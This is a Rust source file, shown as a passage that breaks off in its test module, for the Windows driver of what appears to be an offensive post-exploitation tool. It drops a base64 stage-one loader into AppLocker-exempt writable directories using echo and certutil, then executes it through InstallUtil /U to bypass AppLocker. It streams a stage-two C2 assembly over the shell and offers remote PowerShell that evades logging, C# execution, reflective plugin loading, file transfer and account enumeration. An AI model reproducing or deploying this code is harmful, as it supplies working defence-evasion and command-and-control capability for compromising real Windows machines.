//! The Windows driver: bootstraps a dedicated stage-two C2 and marshals
//! every primitive to it.
//!
//! Windows cannot be driven as a line-oriented Unix shell, so the driver
//! drops a small reflective loader (stage one) into an AppLocker-exempt
//! system directory, launches it with `InstallUtil /U`, and feeds it a
//! gzipped stage-two assembly over the channel. From then on the channel
//! speaks newline-delimited JSON: requests are `["Class","method",args...]`
//! arrays, responses are `{"error":int,"result":any,"message"?}` objects.
//! Binary file transfer switches to a length-prefixed raw window between
//! two JSON envelopes.

use std::collections::HashMap;
use std::io::{Read, Write};
use std::path::Path;
use std::time::{Duration, Instant};

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;
use redcat_internal::error::{ChannelError, Error};
use redcat_internal::rpc::{code, MethodCall, MethodResponse};
use redcat_internal::wire::{encode_frame, FrameBuffer, LineBuffer};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::channel::{Channel, ChannelExt, BACKOFF};
use crate::config::Config;
use crate::facts::{Group, User};
use crate::platform::OutputEvent;
use crate::subprocess::Output;
use crate::{terminal, util};

/// Marker line ending a ConPTY pass-through.
pub const INTERACTIVE_END_MARKER: &[u8] = b"INTERACTIVE_COMPLETE\r\n";

/// File names of the two loader stages inside the plugin directory.
pub const STAGE_ONE_NAME: &str = "stageone.dll";
pub const STAGE_TWO_NAME: &str = "stagetwo.dll";

/// Release tag and URL template used by `--download-plugins`.
pub const C2_VERSION: &str = "v0.3.1";
pub const C2_RELEASE_URL: &str =
    "https://github.com/redcat-rs/redcat-windows-c2/releases/download/{version}/{file}";

/// Response deadline for stage-two method calls.
const RESPONSE_TIMEOUT: Duration = Duration::from_secs(30);

/// Maximum characters per `echo` chunk while dropping stage one.
const CHUNK_SIZE: usize = 1900;

/// Directories writable by unprivileged users where AppLocker default rules
/// still allow execution.
const SAFE_DIRS: &[&str] = &[
    "\\Windows\\Tasks",
    "\\Windows\\Temp",
    "\\windows\\tracing",
    "\\Windows\\Registration\\CRMLog",
    "\\Windows\\System32\\FxsTmp",
    "\\Windows\\System32\\com\\dmp",
    "\\Windows\\System32\\spool\\PRINTERS",
    "\\Windows\\System32\\spool\\drivers\\color",
    "\\Windows\\SysWOW64\\FxsTmp",
    "\\Windows\\SysWOW64\\com\\dmp",
];

/// A .NET plugin loaded into stage two. Deduplicated by name and content
/// hash: loading the same bytes twice returns the same ident.
#[derive(Debug, Clone)]
pub struct DotNetPlugin {
    pub names: Vec<String>,
    pub checksum: String,
    pub ident: i64,
}

pub struct Windows {
    chan: Box<dyn Channel>,
    lines: LineBuffer,
    interactive: bool,
    interactive_tracker: usize,
    host_guid: String,
    plugins: Vec<DotNetPlugin>,
    which_cache: HashMap<String, Option<String>>,
    poisoned: bool,
    username: String,
    sid: String,
    cwd: String,
    /// PID of the most recently spawned remote process, for interrupts.
    last_pid: Option<i64>,
}

impl Windows {
    /// Bootstrap the two-stage C2 over a cmd.exe or powershell.exe shell
    /// and take the initial identity snapshot.
    pub fn establish(channel: Box<dyn Channel>, config: &Config) -> Result<Windows, Error> {
        let stage_one = read_stage(&config.plugin_path, STAGE_ONE_NAME)?;
        let stage_two = read_stage(&config.plugin_path, STAGE_TWO_NAME)?;

        let mut platform = Windows {
            chan: channel,
            lines: LineBuffer::new(),
            interactive: false,
            interactive_tracker: 0,
            host_guid: String::new(),
            plugins: Vec::new(),
            which_cache: HashMap::new(),
            poisoned: false,
            username: String::new(),
            sid: String::new(),
            cwd: String::from("C:\\"),
            last_pid: None,
        };

        platform.bootstrap(&stage_one, &stage_two)?;
        platform.refresh_uid()?;
        platform.cwd = platform
            .powershell("(Get-Location).Path")?
            .first()
            .cloned()
            .unwrap_or_else(|| "C:\\".to_string());

        Ok(platform)
    }

    pub fn channel_mut(&mut self) -> &mut dyn Channel {
        self.chan.as_mut()
    }

    pub fn is_interactive(&self) -> bool {
        self.interactive
    }

    pub fn poisoned(&self) -> bool {
        self.poisoned
    }

    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    pub fn host_id(&self) -> String {
        self.host_guid.clone()
    }

    fn bootstrap(&mut self, stage_one: &[u8], stage_two: &[u8]) -> Result<(), Error> {
        // Wake the shell and find its prompt.
        self.chan.sendline(b"").map_err(Error::Channel)?;
        self.chan
            .recvuntil(b">", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;

        let loader_b64 = BASE64.encode(stage_one);
        let staging_name = util::random_string(8);

        // Probe the candidate directories with the first chunk; access
        // denials show up in the echoed error text.
        let first_chunk = &loader_b64[..CHUNK_SIZE.min(loader_b64.len())];
        let mut chosen: Option<(String, String)> = None;

        for dir in SAFE_DIRS {
            let staging_path = format!("{}\\{}", dir, staging_name);
            self.send_console_line(&format!("echo {} >\"{}\"", first_chunk, staging_path))?;
            let result = self
                .chan
                .recvuntil(b">", Some(RESPONSE_TIMEOUT))
                .map_err(Error::Channel)?;

            if !result.to_ascii_lowercase().windows(6).any(|w| w == b"denied") {
                log::info!("dropping stage one in {:?}", staging_path);
                chosen = Some((dir.to_string(), staging_path));
                break;
            }
        }

        let (good_dir, staging_path) = chosen.ok_or_else(|| {
            Error::Platform("no writable applocker-safe directories".into())
        })?;

        // Append the remaining chunks.
        let mut offset = CHUNK_SIZE.min(loader_b64.len());
        while offset < loader_b64.len() {
            let end = (offset + CHUNK_SIZE).min(loader_b64.len());
            self.send_console_line(&format!(
                "echo {} >>\"{}\"",
                &loader_b64[offset..end],
                staging_path
            ))?;
            self.chan
                .recvuntil(b">", Some(RESPONSE_TIMEOUT))
                .map_err(Error::Channel)?;
            offset = end;
        }

        // Decode the base64 staging file into the actual DLL and clean up.
        let dll_path = format!("{}\\{}.dll", good_dir, staging_name);
        self.send_console_line(&format!(
            "certutil -decode \"{}\" \"{}\"",
            staging_path, dll_path
        ))?;
        self.chan
            .recvuntil(b">", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;
        self.send_console_line(&format!("del \"{}\"", staging_path))?;
        self.chan
            .recvuntil(b">", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;

        // Locate the newest InstallUtil across installed .NET versions.
        self.send_console_line(
            "cmd /c \"dir \\Windows\\Microsoft.NET\\* /s/b | findstr InstallUtil.exe$\"",
        )?;
        let listing = self
            .chan
            .recvuntil(b">", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;
        let listing = String::from_utf8_lossy(&listing);
        let mut candidates: Vec<&str> = listing
            .lines()
            .map(str::trim)
            .filter(|l| l.ends_with("InstallUtil.exe"))
            .collect();
        candidates.sort();
        let install_util = candidates
            .last()
            .ok_or_else(|| Error::Platform("InstallUtil.exe not found on target".into()))?
            .to_string();

        log::info!("executing loader via {}", install_util);

        // Execute stage one; /U runs the uninstall handler which bypasses
        // the AppLocker/CLM policy checks InstallUtil is exempt from.
        self.send_console_line(&format!(
            "{} /logfile= /LogToConsole=false /U \"{}\"",
            install_util, dll_path
        ))?;

        // Loader handshake.
        self.chan
            .recvuntil(b"READY", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;
        self.chan
            .recvuntil(b"\n", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;

        // Ship stage two: gzip, base64, one line.
        self.chan
            .sendline(&encode_stage_two(stage_two))
            .map_err(Error::Channel)?;

        // Stage two announces itself and reports the machine GUID.
        self.chan
            .recvuntil(b"READY", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;
        self.chan
            .recvuntil(b"\n", Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;

        let guid = self
            .chan
            .recvline(Some(RESPONSE_TIMEOUT))
            .map_err(Error::Channel)?;
        self.host_guid = String::from_utf8_lossy(&guid).trim().to_string();

        log::info!("stage two ready; machine guid {}", self.host_guid);
        Ok(())
    }

    fn send_console_line(&mut self, line: &str) -> Result<(), Error> {
        self.chan
            .send(format!("{}\r\n", line).as_bytes())
            .map_err(Error::Channel)?;
        // swallow the echo
        let _ = self.chan.recvline(Some(Duration::from_secs(5)));
        Ok(())
    }

    /// Read one line through the line reassembly buffer.
    fn read_line(&mut self, timeout: Duration) -> Result<Vec<u8>, Error> {
        let deadline = Instant::now() + timeout;

        loop {
            if let Some(line) = self.lines.pop_line() {
                return Ok(line);
            }

            if Instant::now() >= deadline {
                self.poisoned = true;
                return Err(Error::Protocol("stage two response timed out".into()));
            }

            match self.chan.try_recv(4096) {
                Ok(data) => self.lines.push(&data),
                Err(ChannelError::Blocked) => std::thread::sleep(BACKOFF),
                Err(err) => return Err(Error::Channel(err)),
            }
        }
    }

    /// Read a length-prefixed raw byte window.
    fn read_frame(&mut self, timeout: Duration) -> Result<Vec<u8>, Error> {
        let deadline = Instant::now() + timeout;
        let mut frame = FrameBuffer::new();

        // Bytes already pulled into the line buffer belong to the window.
        let carried = self.lines.take_pending();
        frame.push(&carried);

        loop {
            if let Some(payload) = frame.pop() {
                return Ok(payload);
            }

            if Instant::now() >= deadline {
                self.poisoned = true;
                return Err(Error::Protocol("raw byte window timed out".into()));
            }

            match self.chan.try_recv(4096) {
                Ok(data) => frame.push(&data),
                Err(ChannelError::Blocked) => std::thread::sleep(BACKOFF),
                Err(err) => return Err(Error::Channel(err)),
            }
        }
    }

    /// Invoke a static method inside stage two and return its result.
    pub fn run_method(&mut self, class: &str, method: &str, args: Vec<Value>) -> Result<Value, Error> {
        self.send_method(class, method, args)?;
        self.read_response()
    }

    /// Send a method invocation without waiting for the response (used by
    /// `interactive`, whose response only arrives after the ConPTY exits).
    fn send_method(&mut self, class: &str, method: &str, args: Vec<Value>) -> Result<(), Error> {
        if self.interactive {
            return Err(Error::Busy(
                "cannot invoke stage-two method while raw pass-through is active".into(),
            ));
        }
        if self.poisoned {
            return Err(Error::Platform("channel is poisoned".into()));
        }

        let call = MethodCall::new(class, method, args);
        self.chan.send(&call.encode()).map_err(Error::Channel)?;
        Ok(())
    }

    fn read_response(&mut self) -> Result<Value, Error> {
        // Skip any residual non-JSON output between responses.
        loop {
            let line = self.read_line(RESPONSE_TIMEOUT)?;
            if line.is_empty() {
                continue;
            }

            match MethodResponse::decode(&line) {
                Ok(response) => return map_response(response),
                Err(_) => {
                    log::debug!("skipping non-protocol line: {:?}", String::from_utf8_lossy(&line));
                    continue;
                }
            }
        }
    }

    // -- primitives -------------------------------------------------------

    /// Spawn a process, returning the pid and I/O handles.
    pub fn process(&mut self, command: &str) -> Result<WinProcess, Error> {
        let result = self.run_method("Process", "process", vec![json!(command), json!(1)])?;

        let handle = WinProcess {
            pid: result["pid"].as_i64().unwrap_or(-1),
            stdin: result["stdin"].as_i64().unwrap_or(-1),
            stdout: result["stdout"].as_i64().unwrap_or(-1),
            stderr: result["stderr"].as_i64().unwrap_or(-1),
        };
        self.last_pid = Some(handle.pid);
        Ok(handle)
    }

    /// Poll a process for exit; `None` while still running.
    pub fn ppoll(&mut self, pid: i64) -> Result<Option<i64>, Error> {
        let result = self.run_method("Process", "ppoll", vec![json!(pid)])?;
        Ok(result.as_i64())
    }

    pub fn kill(&mut self, pid: i64) -> Result<(), Error> {
        self.run_method("Process", "kill", vec![json!(pid), json!(1)])?;
        Ok(())
    }

    /// Execute a command line and collect stdout and the exit status.
    pub fn run(&mut self, argv: &[String], timeout: Option<Duration>) -> Result<Output, Error> {
        let command = argv.join(" ");
        let proc = self.process(&command)?;
        let deadline = timeout.map(|t| Instant::now() + t);

        let mut stdout = Vec::new();
        let status = loop {
            let chunk = self.file_read(proc.stdout, 4096)?;
            stdout.extend_from_slice(&chunk);

            if chunk.is_empty() {
                if let Some(status) = self.ppoll(proc.pid)? {
                    break status;
                }
                std::thread::sleep(BACKOFF);
            }

            if let Some(deadline) = deadline {
                if Instant::now() >= deadline {
                    self.kill(proc.pid)?;
                    self.close_handles(&proc);
                    return Err(Error::Channel(ChannelError::Timeout {
                        partial: stdout,
                        elapsed: timeout.unwrap_or_default(),
                    }));
                }
            }
        };

        self.close_handles(&proc);
        self.last_pid = None;

        Ok(Output {
            stdout,
            status: status as i32,
        })
    }

    fn close_handles(&mut self, proc: &WinProcess) {
        for handle in [proc.stdin, proc.stdout, proc.stderr] {
            if handle >= 0 {
                let _ = self.run_method("File", "close", vec![json!(handle)]);
            }
        }
    }

    /// Run a powershell script inside the stage-two runspace and return its
    /// output lines. Scripts run here are not subject to the system
    /// language-mode or logging policies of a normal powershell.exe.
    pub fn powershell(&mut self, script: &str) -> Result<Vec<String>, Error> {
        let result = self.run_method("PowerShell", "run", vec![json!(script)])?;

        let lines = match result {
            Value::Array(items) => items
                .into_iter()
                .map(|v| match v {
                    Value::String(s) => s,
                    other => other.to_string(),
                })
                .collect(),
            Value::String(s) => s.lines().map(str::to_string).collect(),
            Value::Null => Vec::new(),
            other => vec![other.to_string()],
        };
        Ok(lines)
    }

    /// Compile and execute a C# snippet inside stage two.
    pub fn csharp(&mut self, source: &str) -> Result<Value, Error> {
        self.run_method("CSharp", "run", vec![json!(source)])
    }

    // -- file I/O ---------------------------------------------------------

    pub fn open_read(&mut self, path: &str) -> Result<FileHandle<'_>, Error> {
        self.open_file(path, "r")
    }

    pub fn open_write(&mut self, path: &str) -> Result<FileHandle<'_>, Error> {
        self.open_file(path, "w")
    }

    fn open_file(&mut self, path: &str, mode: &str) -> Result<FileHandle<'_>, Error> {
        let result = self.run_method("File", "open", vec![json!(path), json!(mode)])?;
        let handle = result["handle"]
            .as_i64()
            .ok_or_else(|| Error::Protocol("File.open returned no handle".into()))?;

        Ok(FileHandle {
            platform: self,
            handle,
            readable: mode.contains('r'),
            writable: mode.contains('w'),
            closed: false,
        })
    }

    /// One read RPC: envelope announcing the byte count, the raw window,
    /// then the closing envelope.
    fn file_read(&mut self, handle: i64, max: usize) -> Result<Vec<u8>, Error> {
        self.send_method("File", "read", vec![json!(handle), json!(max)])?;

        let announced = self.read_response()?;
        let count = announced
            .as_u64()
            .ok_or_else(|| Error::Protocol("File.read returned no count".into()))?;

        if count == 0 {
            return Ok(Vec::new());
        }

        let payload = self.read_frame(RESPONSE_TIMEOUT)?;
        if payload.len() != count as usize {
            self.poisoned = true;
            return Err(Error::Protocol(format!(
                "raw window length mismatch: announced {}, received {}",
                count,
                payload.len()
            )));
        }

        // closing envelope
        self.read_response()?;
        Ok(payload)
    }

    /// One write RPC, mirroring `file_read`.
    fn file_write(&mut self, handle: i64, data: &[u8]) -> Result<usize, Error> {
        self.send_method("File", "write", vec![json!(handle), json!(data.len())])?;
        self.read_response()?;

        self.chan
            .send(&encode_frame(data))
            .map_err(Error::Channel)?;

        let written = self.read_response()?;
        Ok(written.as_u64().unwrap_or(data.len() as u64) as usize)
    }

    fn file_close(&mut self, handle: i64) -> Result<(), Error> {
        self.run_method("File", "close", vec![json!(handle)])?;
        Ok(())
    }

    // -- identity ---------------------------------------------------------

    pub fn refresh_uid(&mut self) -> Result<(), Error> {
        self.sid = self
            .powershell("[System.Security.Principal.WindowsIdentity]::GetCurrent().User.Value")?
            .last()
            .cloned()
            .unwrap_or_default();
        self.username = self.whoami()?;
        Ok(())
    }

    pub fn whoami(&mut self) -> Result<String, Error> {
        let lines =
            self.powershell("[System.Security.Principal.WindowsIdentity]::GetCurrent().Name")?;
        lines
            .last()
            .cloned()
            .ok_or_else(|| Error::Protocol("empty whoami response".into()))
    }

    pub fn getenv(&mut self, name: &str) -> Result<String, Error> {
        let lines = self.powershell(&format!("$env:{}", name))?;
        Ok(lines.join("\n"))
    }

    pub fn hostname(&mut self) -> Result<String, Error> {
        self.getenv("COMPUTERNAME")
    }

    pub fn chdir(&mut self, path: &str) -> Result<String, Error> {
        let lines = self.powershell(&format!(
            "Set-Location -Path '{}'; (Get-Location).Path",
            path.replace('\'', "''")
        ))?;
        let new_cwd = lines
            .last()
            .cloned()
            .ok_or_else(|| Error::NotFound(path.to_string()))?;
        Ok(std::mem::replace(&mut self.cwd, new_cwd))
    }

    pub fn which(&mut self, name: &str) -> Result<Option<String>, Error> {
        if let Some(cached) = self.which_cache.get(name) {
            return Ok(cached.clone());
        }

        let out = self.run(&["where.exe".to_string(), name.to_string()], None)?;
        let resolved = if out.success() {
            out.stdout_utf8().lines().next().map(|l| l.trim().to_string())
        } else {
            None
        };

        self.which_cache.insert(name.to_string(), resolved.clone());
        Ok(resolved)
    }

    pub fn users(&mut self) -> Result<Vec<User>, Error> {
        let lines = self.powershell(
            "Get-LocalUser | Select-Object Name,SID | ConvertTo-Json -Compress",
        )?;
        let raw = lines.join("\n");
        let parsed: Value = serde_json::from_str(raw.trim())
            .map_err(|e| Error::Protocol(format!("Get-LocalUser output: {}", e)))?;

        let items = match parsed {
            Value::Array(items) => items,
            single @ Value::Object(_) => vec![single],
            _ => return Err(Error::Protocol("unexpected Get-LocalUser output".into())),
        };

        Ok(items
            .into_iter()
            .map(|item| User {
                name: item["Name"].as_str().unwrap_or_default().to_string(),
                id: item["SID"]["Value"]
                    .as_str()
                    .or_else(|| item["SID"].as_str())
                    .unwrap_or_default()
                    .to_string(),
                group_id: None,
                home: None,
                shell: None,
            })
            .collect())
    }

    pub fn groups(&mut self) -> Result<Vec<Group>, Error> {
        let lines = self.powershell(
            "Get-LocalGroup | Select-Object Name,SID | ConvertTo-Json -Compress",
        )?;
        let raw = lines.join("\n");
        let parsed: Value = serde_json::from_str(raw.trim())
            .map_err(|e| Error::Protocol(format!("Get-LocalGroup output: {}", e)))?;

        let items = match parsed {
            Value::Array(items) => items,
            single @ Value::Object(_) => vec![single],
            _ => return Err(Error::Protocol("unexpected Get-LocalGroup output".into())),
        };

        Ok(items
            .into_iter()
            .map(|item| Group {
                name: item["Name"].as_str().unwrap_or_default().to_string(),
                id: item["SID"]["Value"]
                    .as_str()
                    .or_else(|| item["SID"].as_str())
                    .unwrap_or_default()
                    .to_string(),
                members: Vec::new(),
            })
            .collect())
    }

    pub fn current_user(&mut self) -> Result<User, Error> {
        let sid = self.sid.clone();
        if let Ok(users) = self.users() {
            if let Some(user) = users.into_iter().find(|u| u.id == sid) {
                return Ok(user);
            }
        }

        Ok(User {
            id: sid,
            name: self.username.clone(),
            group_id: None,
            home: None,
            shell: None,
        })
    }

    // -- interactive ------------------------------------------------------

    /// Enter or leave ConPTY pass-through.
    pub fn set_interactive(&mut self, value: bool) -> Result<(), Error> {
        if value == self.interactive {
            return Ok(());
        }

        if value {
            let (cols, rows) = terminal::window_size().unwrap_or((80, 24));
            self.send_method("Interactive", "start", vec![json!(cols), json!(rows)])?;

            let line = self.read_line(RESPONSE_TIMEOUT)?;
            if !line.starts_with(b"INTERACTIVE_START") {
                // the start call failed; the line is its error response
                let response = MethodResponse::decode(&line)
                    .map_err(|e| Error::Protocol(format!("interactive start: {}", e)))?;
                return map_response(response).map(|_| ());
            }

            self.interactive = true;
            self.interactive_tracker = 0;
        } else {
            self.interactive = false;

            // The pending response of the `start` call arrives once the
            // ConPTY tears down.
            if let Err(err) = self.read_response() {
                log::warn!("interactive teardown: {}", err);
            }
            self.refresh_uid()?;
        }

        Ok(())
    }

    /// Scan interactive output for the end marker and normalize bare `\r`
    /// to `\r\n` for the local terminal.
    pub fn process_output(&mut self, data: &[u8]) -> OutputEvent {
        if !self.interactive {
            return OutputEvent::Data(data.to_vec());
        }

        let mut transformed = Vec::with_capacity(data.len());
        let mut has_cr = false;
        // marker bytes matched within *this* chunk; the marker may have
        // started in a previous chunk
        let mut matched_here = 0usize;

        for (idx, &byte) in data.iter().enumerate() {
            if has_cr && byte != b'\n' {
                transformed.push(b'\n');
            }
            has_cr = byte == b'\r';
            transformed.push(byte);

            if INTERACTIVE_END_MARKER[self.interactive_tracker] == byte {
                self.interactive_tracker += 1;
                matched_here += 1;
                if self.interactive_tracker == INTERACTIVE_END_MARKER.len() {
                    self.interactive_tracker = 0;
                    // everything after the marker belongs to the response
                    // stream; push it back for read_response
                    self.chan.unrecv(&data[idx + 1..]);
                    // drop this chunk's share of the marker from the
                    // visible output
                    transformed.truncate(transformed.len() - matched_here);
                    return OutputEvent::InteractiveComplete(transformed);
                }
            } else if INTERACTIVE_END_MARKER[0] == byte {
                self.interactive_tracker = 1;
                matched_here = 1;
            } else {
                self.interactive_tracker = 0;
                matched_here = 0;
            }
        }

        OutputEvent::Data(transformed)
    }

    pub fn interrupt(&mut self) -> Result<(), Error> {
        if let Some(pid) = self.last_pid.take() {
            self.kill(pid)?;
        }
        Ok(())
    }

    pub fn exit(&mut self) {
        let _ = self.send_method("StageTwo", "exit", vec![]);
    }

    // -- plugins ----------------------------------------------------------

    /// Reflectively load a .NET plugin into stage two. Loading an
    /// already-known name or identical bytes returns the existing plugin.
    pub fn dotnet_load(&mut self, name: &str, content: Option<Vec<u8>>) -> Result<DotNetPlugin, Error> {
        if let Some(plugin) = self.plugins.iter().find(|p| p.names.iter().any(|n| n == name)) {
            return Ok(plugin.clone());
        }

        let content = match content {
            Some(content) => content,
            None => std::fs::read(name)
                .map_err(|e| Error::NotFound(format!("{}: {}", name, e)))?,
        };

        let checksum = {
            let mut hasher = Sha256::new();
            hasher.update(&content);
            hasher
                .finalize()
                .iter()
                .map(|b| format!("{:02x}", b))
                .collect::<String>()
        };

        // Same bytes under another name: alias it, do not load again.
        if let Some(plugin) = self.plugins.iter_mut().find(|p| p.checksum == checksum) {
            plugin.names.push(name.to_string());
            return Ok(plugin.clone());
        }

        let encoded = BASE64.encode(&content);
        let result = self.run_method("Reflection", "load", vec![json!(encoded)])?;
        let ident = result
            .as_i64()
            .ok_or_else(|| Error::Protocol("Reflection.load returned no ident".into()))?;

        let plugin = DotNetPlugin {
            names: vec![name.to_string()],
            checksum,
            ident,
        };
        self.plugins.push(plugin.clone());
        Ok(plugin)
    }

    /// Invoke a static method on a loaded plugin with the standard ABI.
    pub fn plugin_call(
        &mut self,
        plugin: &DotNetPlugin,
        method: &str,
        mut args: Vec<Value>,
    ) -> Result<Value, Error> {
        let mut full_args = vec![json!(plugin.ident)];
        full_args.append(&mut args);
        self.run_method("Plugin", method, full_args)
    }
}

/// Handle quadruple of a remote process.
#[derive(Debug, Clone, Copy)]
pub struct WinProcess {
    pub pid: i64,
    pub stdin: i64,
    pub stdout: i64,
    pub stderr: i64,
}

/// A file opened inside stage two via CreateFile.
pub struct FileHandle<'p> {
    platform: &'p mut Windows,
    handle: i64,
    readable: bool,
    writable: bool,
    closed: bool,
}

impl Read for FileHandle<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if !self.readable || self.closed {
            return Ok(0);
        }

        let chunk = self
            .platform
            .file_read(self.handle, buf.len().min(65536))
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::Other, e.to_string()))?;

        buf[..chunk.len()].copy_from_slice(&chunk);
        Ok(chunk.len())
    }
}

impl Write for FileHandle<'_> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if !self.writable || self.closed {
            return Err(std::io::Error::new(
                std::io::ErrorKind::BrokenPipe,
                "handle not writable",
            ));
        }

        self.platform
            .file_write(self.handle, buf)
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::Other, e.to_string()))
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl FileHandle<'_> {
    pub fn close(mut self) -> Result<(), Error> {
        self.closed = true;
        self.platform.file_close(self.handle)
    }
}

impl Drop for FileHandle<'_> {
    fn drop(&mut self) {
        if !self.closed {
            self.closed = true;
            let _ = self.platform.file_close(self.handle);
        }
    }
}

/// Map a response envelope to the error taxonomy.
fn map_response(response: MethodResponse) -> Result<Value, Error> {
    if response.is_success() {
        return Ok(response.result);
    }

    let message = response
        .message
        .unwrap_or_else(|| format!("stage two error {}", response.error));

    match response.error {
        code::FILE_NOT_FOUND | code::PATH_NOT_FOUND => Err(Error::NotFound(message)),
        code::ACCESS_DENIED => Err(Error::Permission(message)),
        _ => Err(Error::Protocol(message)),
    }
}

/// Gzip and base64 a stage-two assembly for transfer.
pub fn encode_stage_two(assembly: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    // writing into a Vec cannot fail
    let _ = gz.write_all(assembly);
    let compressed = gz.finish().unwrap_or_default();
    BASE64.encode(compressed).into_bytes()
}

fn read_stage(plugin_path: &Path, name: &str) -> Result<Vec<u8>, Error> {
    let path = plugin_path.join(name);
    std::fs::read(&path).map_err(|_| {
        Error::NotFound(format!(
            "{}: stage payload missing; fetch it with --download-plugins",
            path.display()
        ))
    })
}

/// Prefetch the stage payloads into the plugin directory.
pub fn download_plugins(config: &Config) -> Result<(), Error> {
    std::fs::create_dir_all(&config.plugin_path)
        .map_err(|e| Error::Platform(format!("{}: {}", config.plugin_path.display(), e)))?;

    for file in [STAGE_ONE_NAME, STAGE_TWO_NAME] {
        let url = C2_RELEASE_URL
            .replace("{version}", C2_VERSION)
            .replace("{file}", file);
        let destination = config.plugin_path.join(file);

        log::info!("downloading {} -> {}", url, destination.display());
        let response = reqwest::blocking::get(&url)
            .and_then(|r| r.error_for_status())
            .map_err(|e| Error::NotFound(format!("{}: {}", url, e)))?;
        let body = response
            .bytes()
            .map_err(|e| Error::NotFound(format!("{}: {}", url, e)))?;

        std::fs::write(&destination, &body)
            .map_err(|e| Error::Platform(format!("{}: {}", destination.display(), e)))?;
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::MockChannel;

    /// Build a driver around a scripted channel, skipping the loader
    /// bootstrap.
    fn bare(chan: MockChannel) -> Windows {
        Windows {
            chan: Box::new(chan),
            lines: LineBuffer::new(),
            interactive: false,
            interactive_tracker: 0,
            host_guid: "3e2f0c2d-bb1a-4b5e-9f7d-111122223333".into(),
            plugins: Vec::new(),
            which_cache: HashMap::new(),
            poisoned: false,
            username: String::new(),
            sid: String::new(),
            cwd: "C:\\".into(),
            last_pid: None,
        }
    }

    /// Respond to each JSON array request with a canned envelope.
    fn rpc_responder<F>(mut handler: F) -> MockChannel
    where
        F: FnMut(&str, &str, &[Value]) -> MethodResponse + Send + 'static,
    {
        MockChannel::scripted(move |sent| {
            let parsed: Value = match serde_json::from_slice(sent) {
                Ok(v) => v,
                Err(_) => return Vec::new(), // raw window bytes
            };
            let array = parsed.as_array().cloned().unwrap_or_default();
            let class = array.first().and_then(Value::as_str).unwrap_or_default().to_string();
            let method = array.get(1).and_then(Value::as_str).unwrap_or_default().to_string();
            let args = array.get(2..).unwrap_or_default().to_vec();

            let response = handler(&class, &method, &args);
            let mut line = serde_json::to_vec(&response).unwrap();
            line.push(b'\n');
            line
        })
    }

    #[test]
    fn run_method_round_trip() {
        let chan = rpc_responder(|class, method, args| {
            assert_eq!(class, "Process");
            assert_eq!(method, "process");
            assert_eq!(args[0], json!("whoami"));
            MethodResponse::ok(json!({"pid": 42, "stdin": 1, "stdout": 2, "stderr": 3}))
        });

        let mut platform = bare(chan);
        let result = platform
            .run_method("Process", "process", vec![json!("whoami"), json!(1)])
            .unwrap();
        assert_eq!(result["pid"], 42);
    }

    #[test]
    fn error_codes_map_to_taxonomy() {
        let chan = rpc_responder(|_, _, args| {
            let which = args[0].as_i64().unwrap();
            MethodResponse::failure(which, "boom")
        });

        let mut platform = bare(chan);
        assert!(matches!(
            platform.run_method("File", "open", vec![json!(2)]),
            Err(Error::NotFound(_))
        ));
        assert!(matches!(
            platform.run_method("File", "open", vec![json!(5)]),
            Err(Error::Permission(_))
        ));
        assert!(matches!(
            platform.run_method("File", "open", vec![json!(31)]),
            Err(Error::Protocol(_))
        ));
    }

    #[test]
    fn garbage_lines_before_the_response_are_skipped() {
        let mut chan = rpc_responder(|_, _, _| MethodResponse::ok(json!("ok")));
        chan.push_incoming(b"some stray console output\r\n");
        let mut platform = bare(chan);

        let result = platform.run_method("PowerShell", "run", vec![json!("1+1")]).unwrap();
        assert_eq!(result, json!("ok"));
    }

    #[test]
    fn file_read_uses_length_prefixed_window() {
        let body = b"\x00\x01binary window\xff".to_vec();
        let expected = body.clone();

        let chan = rpc_responder(move |class, method, args| {
            assert_eq!((class, method), ("File", "read"));
            assert_eq!(args[0], json!(7));
            // announce, window, closing envelope — all in one burst
            MethodResponse::ok(json!(body.len()))
        });

        let mut platform = bare(chan);

        // Send the read; the responder answers with the announcement
        // envelope. Then queue the raw window and the closing envelope as
        // if stage two streamed them behind it.
        platform
            .send_method("File", "read", vec![json!(7), json!(4096)])
            .unwrap();
        let count = platform.read_response().unwrap().as_u64().unwrap() as usize;
        assert_eq!(count, expected.len());

        let mut window = encode_frame(&expected);
        window.extend_from_slice(b"{\"error\":0,\"result\":null}\n");
        platform.chan.unrecv(&window);

        let payload = platform.read_frame(RESPONSE_TIMEOUT).unwrap();
        assert_eq!(payload, expected);
        platform.read_response().unwrap();
    }

    #[test]
    fn interactive_end_marker_is_detected_across_chunks() {
        let chan = MockChannel::with_incoming(b"");
        let mut platform = bare(chan);
        platform.interactive = true;

        // marker split across two output chunks
        let part1 = b"C:\\Users\\victim> exit\r\nINTERACTIVE_CO";
        let part2 = b"MPLETE\r\n{\"error\":0,\"result\":null}\n";

        match platform.process_output(part1) {
            OutputEvent::Data(_) => {}
            other => panic!("marker should not fire yet: {:?}", other),
        }

        match platform.process_output(part2) {
            OutputEvent::InteractiveComplete(data) => {
                // marker stripped from the visible output
                assert!(!data.windows(8).any(|w| w == b"COMPLETE"));
            }
            other => panic!("expected completion, got {:?}", other),
        }

        // the response envelope was pushed back for read_response
        platform.interactive = false;
        let response = platform.read_response().unwrap();
        assert_eq!(response, Value::Null);
    }

    #[test]
    fn bare_carriage_returns_are_normalized() {
        let chan = MockChannel::with_incoming(b"");
        let mut platform = bare(chan);
        platform.interactive = true;

        match platform.process_output(b"line one\rline two\r\nline three") {
            OutputEvent::Data(data) => {
